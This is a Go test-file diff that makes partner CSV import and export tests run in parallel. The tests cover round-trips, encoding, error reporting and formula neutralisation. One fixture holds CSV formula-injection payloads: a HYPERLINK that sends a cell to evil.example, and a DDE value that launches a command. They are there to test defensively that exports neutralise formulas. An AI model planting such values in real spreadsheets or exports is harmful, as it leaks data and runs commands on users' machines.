@@ -86,6 +86,7 @@ func where(errs []partner.RowError) []string {
 }
 
 func TestExportImportRoundTrip(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		ctx := context.Background()
 		s := partner.NewService(d, clock)
@@ -142,6 +143,7 @@ func TestExportImportRoundTrip(t *testing.T) {
 }
 
 func TestImportExcelWindows1252(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		ctx := context.Background()
 		s := partner.NewService(d, clock)
@@ -197,6 +199,7 @@ Epsilon GmbH,CH,
 `
 
 func TestImportRefusesAFileWithErrors(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		s := partner.NewService(d, clock)
 		rep, err := partner.ImportCSV(context.Background(), s, auth.System, strings.NewReader(badFile), partner.ImportOptions{})
@@ -222,6 +225,7 @@ func TestImportRefusesAFileWithErrors(t *testing.T) {
 }
 
 func TestImportSkipInvalidWritesRejects(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		s := partner.NewService(d, clock)
 		var rejects bytes.Buffer
@@ -257,6 +261,7 @@ func TestImportSkipInvalidWritesRejects(t *testing.T) {
 }
 
 func TestImportNamesRowAndColumn(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		ctx := context.Background()
 		s := partner.NewService(d, clock)
@@ -295,6 +300,7 @@ func TestImportNamesRowAndColumn(t *testing.T) {
 }
 
 func TestImportRefusesABrokenHeaderOrQuote(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		ctx := context.Background()
 		s := partner.NewService(d, clock)
@@ -321,6 +327,7 @@ func TestImportRefusesABrokenHeaderOrQuote(t *testing.T) {
 }
 
 func TestImportExportStaffOnly(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		ctx := context.Background()
 		s := partner.NewService(d, clock)
@@ -343,6 +350,7 @@ func TestImportExportStaffOnly(t *testing.T) {
 // open the export in a spreadsheet, and the import reads every value back
 // as it was typed.
 func TestExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		ctx := context.Background()
 		s := partner.NewService(d, clock)
@@ -393,6 +401,7 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 // The rejects file of an import is written for a spreadsheet too, and
 // imports back as it was.
 func TestRejectsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		s := partner.NewService(d, clock)
 		file := "legal_name,region,country\n\"=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,XX\nGut GmbH,,DE\n"
@@ -423,6 +432,7 @@ func TestRejectsNeutraliseFormulas(t *testing.T) {
 // with its row and column; free text keeps its line breaks as LF and loses
 // the NUL.
 func TestImportRefusesControlCharacters(t *testing.T) {
+	t.Parallel()
 	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
 		ctx := context.Background()
 		s := partner.NewService(d, clock)
